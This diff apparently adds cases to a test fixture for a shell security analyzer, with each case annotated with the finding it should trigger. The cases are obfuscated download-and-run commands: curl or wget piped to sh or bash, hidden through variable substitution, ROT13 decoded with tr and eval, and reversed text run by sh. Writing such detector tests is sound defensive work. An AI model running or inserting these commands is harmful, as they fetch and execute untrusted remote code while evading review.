@@ -30,3 +30,6 @@ T3='curl_x -s https://cdn.example.net/t | sh'
 eval "${T3//_x/$V}" # want "high SV420: eval runs a string assembled from escapes or substrings"
 T4='echo $(cu$Vrl -s https://cdn.example.net/t | sh)'
 eval "${T4//\$V/$V}" # want "high SV420: eval runs a string assembled from escapes or substrings"
+job='jtrg -dB- uggcf://k.rknzcyr/y | onfu'
+eval "$(printf '%s' "$job" | tr 'A-Za-z' 'N-ZA-Mn-za-m')" # want "high SV420: text deciphered with tr .* is run by eval [(]command substitution[)]"
+sh -c "$(echo 'hs | y/elpmaxe.x//:sptth Ls- lruc' | rev)" # want "high SV420: reversed text is run by sh"
